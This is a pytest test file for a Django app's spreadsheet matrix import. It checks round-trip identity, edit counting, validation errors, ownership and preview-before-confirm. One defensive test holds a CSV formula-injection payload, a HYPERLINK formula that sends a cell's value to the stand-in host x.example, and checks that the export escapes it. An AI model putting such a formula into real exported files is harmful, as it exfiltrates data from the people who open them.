"""The shared import engine (cabildo.matrices) on the plan de mejoramiento matrix: export →
import is the identity, k edited cells are exactly k changes, nothing is written before the
confirmation, large files are read in the background."""

import io

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.db import transaction
from django.test import Client
from django.urls import reverse
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from openpyxl import load_workbook

from cabildo.accounts.models import Role
from cabildo.assessment import plan_matrix, services
from cabildo.assessment.models import ImprovementAction
from cabildo.matrices import services as engine
from cabildo.matrices.adapters import adapter_class
from cabildo.matrices.models import MatrixImport, MatrixImportStatus
from tests.assessment.factories import scored_assessment
from tests.properties import examples

pytestmark = pytest.mark.django_db
KIND = "plan-de-mejoramiento"


@pytest.fixture
def plan(entity):
    # A low-scoring assessment proposes one action per weak activity.
    return services.plan_generate(
        assessment=scored_assessment(entity, scores=[10] * 32, year=2024), threshold_level=1
    )


def _export(plan) -> bytes:
    return plan_matrix.export_xlsx(plan=plan)


def _edit(content: bytes, edits: dict[int, str]) -> bytes:
    """Set DISEÑE ALTERNATIVAS DE MEJORA (column C) of the given data rows (0-based)."""
    book = load_workbook(io.BytesIO(content))
    sheet = book.active
    header = next(r[0].row for r in sheet.iter_rows() if r[0].value == "CATEGORÍAS")
    for index, text in edits.items():
        sheet.cell(row=header + 1 + index, column=3, value=text)
    buffer = io.BytesIO()
    book.save(buffer)
    return buffer.getvalue()


def _prepare(plan, content, user=None):
    return engine.matrix_import_prepare(
        entity=plan.entity, kind=KIND, target=plan.pk, file=content, user=user
    )


def test_export_then_import_changes_nothing(plan):
    assert plan.actions.count() > 3
    result = _prepare(plan, _export(plan))
    assert result.errors == []
    preview = engine.matrix_import_preview(pending=result.pending)
    assert (len(preview.new), len(preview.changed), len(preview.absent)) == (0, 0, 0)
    assert len(preview.unchanged) == plan.actions.count()


@settings(
    max_examples=examples(10),
    deadline=None,
    suppress_health_check=[HealthCheck.function_scoped_fixture],
)
@given(data=st.data())
def test_k_edited_cells_are_exactly_k_changes(plan, data):
    with transaction.atomic():  # each example starts from the same plan
        rows = plan.actions.count()
        picked = data.draw(st.sets(st.integers(0, rows - 1), min_size=1, max_size=rows))
        # A letter first: a cell typed as "=…" in Excel is a formula, not text.
        texts = {i: "A" + data.draw(st.text("abcñáé =+-@", max_size=30)).rstrip() for i in picked}
        before = {a.pk: a.improvement_alternative for a in plan.actions.all()}
        order = [a.pk for a in plan_matrix.selectors.plan_actions(plan=plan)]
        expected = {order[i]: t for i, t in texts.items() if t != before[order[i]]}
        result = _prepare(plan, _edit(_export(plan), texts))
        assert result.errors == []
        preview = engine.matrix_import_preview(pending=result.pending)
        changes = {(r.object_id, c.field) for r in preview.changed for c in r.changes}
        assert changes == {(pk, "improvement_alternative") for pk in expected}
        current = {a.pk: a.improvement_alternative for a in plan.actions.all()}
        assert current == before  # nothing written before the confirmation
        engine.matrix_import_apply(pending=result.pending, user=None)
        after = {a.pk: a.improvement_alternative for a in plan.actions.all()}
        assert after == {**before, **expected}
        transaction.set_rollback(True)


def test_bad_rows_every_error_nothing_stored(plan):
    content = _edit(_export(plan), {})
    book = load_workbook(io.BytesIO(content))
    sheet = book.active
    header = next(r[0].row for r in sheet.iter_rows() if r[0].value == "CATEGORÍAS")
    sheet.cell(row=header + 1, column=4, value="pronto")  # FECHA
    sheet.cell(row=header + 2, column=10, value="M-999999")  # CLAVE of nothing
    buffer = io.BytesIO()
    book.save(buffer)
    result = _prepare(plan, buffer.getvalue())
    assert {e.row for e in result.errors} == {header + 1, header + 2}
    assert not MatrixImport.objects.exists()


@pytest.mark.parametrize(
    ("deadline", "fragment"),
    [("01/01/2999", "2999"), ("01/01/1900", "1900"), ("600 meses", "meses")],
)
def test_implausible_deadline_is_refused_and_nothing_changes(plan, deadline, fragment):
    """One rule for plausible dates, in the import as in the form (tests/assessment/
    test_plan_dates.py): a deadline far in the future or long past is a cell error."""
    content = _export(plan)
    book = load_workbook(io.BytesIO(content))
    sheet = book.active
    header = next(r[0].row for r in sheet.iter_rows() if r[0].value == "CATEGORÍAS")
    sheet.cell(row=header + 1, column=4, value=deadline)  # FECHA
    buffer = io.BytesIO()
    book.save(buffer)
    before = list(plan.actions.values_list("pk", "deadline", "deadline_months"))
    result = _prepare(plan, buffer.getvalue())
    assert [e.row for e in result.errors] == [header + 1], result.errors
    assert fragment in result.errors[0].message
    assert not MatrixImport.objects.exists()
    assert list(plan.actions.values_list("pk", "deadline", "deadline_months")) == before


@pytest.mark.parametrize("content", [b"", b"PK\x03\x04not a zip", b"\x00\x01binary", b"a,b\n1,2\n"])
def test_not_a_matrix_is_one_clear_error(plan, content):
    result = _prepare(plan, content)
    assert len(result.errors) == 1 and result.errors[0].row == 0
    assert str(result.errors[0]) == result.errors[0].message  # no "Fila 0, columna -:"


def test_applied_once_by_its_owner(plan, make_member):
    owner = make_member(Role.PARTICIPATION_LEAD, plan.entity)
    other = make_member(Role.PARTICIPATION_LEAD, plan.entity)
    pending = _prepare(plan, _edit(_export(plan), {0: "Nueva alternativa"}), owner).pending
    with pytest.raises(engine.ValidationError):
        engine.matrix_import_apply(pending=pending, user=other)
    engine.matrix_import_apply(pending=pending, user=owner)
    pending.refresh_from_db()
    assert (pending.status, pending.updated_count) == (MatrixImportStatus.APPLIED, 1)
    with pytest.raises(engine.ValidationError):
        engine.matrix_import_apply(pending=pending, user=owner)


def test_csv_round_trip_keeps_formula_like_text(plan):
    action = plan.actions.first()
    action.improvement_alternative = '=HYPERLINK("http://x.example/?"&A1,"clic")'
    action.save()
    adapter = adapter_class(KIND)(entity=plan.entity, target=plan.pk)
    response = adapter.response(fmt="csv", delimiter=";")
    assert response.content.startswith(b"\xef\xbb\xbf")
    assert b"'=HYPERLINK" in response.content
    preview = engine.matrix_import_preview(pending=_prepare(plan, response.content).pending)
    assert not preview.changed and not preview.new


def test_large_file_is_read_in_the_background(plan, make_member):
    owner = make_member(Role.PARTICIPATION_LEAD, plan.entity)
    job = engine.matrix_import_queue(
        entity=plan.entity, kind=KIND, target=plan.pk, data=_export(plan), user=owner
    )
    assert job.status == MatrixImportStatus.READING
    job = engine.matrix_import_read(job_id=job.pk)
    assert (job.status, job.progress, job.upload) == (MatrixImportStatus.PENDING, 100, None)
    bad = engine.matrix_import_queue(
        entity=plan.entity, kind=KIND, target=plan.pk, data=b"not a workbook", user=owner
    )
    bad = engine.matrix_import_read(job_id=bad.pk)
    assert bad.status == MatrixImportStatus.FAILED and bad.errors


def test_views_upload_preview_confirm(staff_client, plan, make_member):
    client = staff_client(Role.PARTICIPATION_LEAD, plan.entity)
    url = reverse("assessment:plan_import", args=[plan.pk])
    bad = client.post(url, {"file": SimpleUploadedFile("p.xlsx", b"PK\x03\x04x")})
    assert bad.status_code == 400 and "no se guardó nada" in bad.content.decode()
    assert not MatrixImport.objects.exists()
    content = _edit(_export(plan), {0: "Alternativa corregida"})
    response = client.post(url, {"file": SimpleUploadedFile("p.xlsx", content)})
    assert response.status_code == 302
    preview_url = response["Location"]
    page = client.get(preview_url).content.decode()
    assert "Alternativa corregida" in page and "<ins>" in page
    assert not ImprovementAction.objects.filter(
        improvement_alternative="Alternativa corregida"
    ).exists()
    other = Client()
    other.force_login(make_member(Role.PARTICIPATION_LEAD, plan.entity))
    assert other.get(preview_url).status_code == 404  # only the uploader sees it
    response = client.post(preview_url, {"confirm": "1"}, follow=True)
    assert "Importación aplicada: 0 filas nuevas, 1 modificada" in response.content.decode()
    assert (
        ImprovementAction.objects.filter(improvement_alternative="Alternativa corregida").count()
        == 1
    )
    assert client.get(preview_url).status_code == 404  # applied: no longer pending
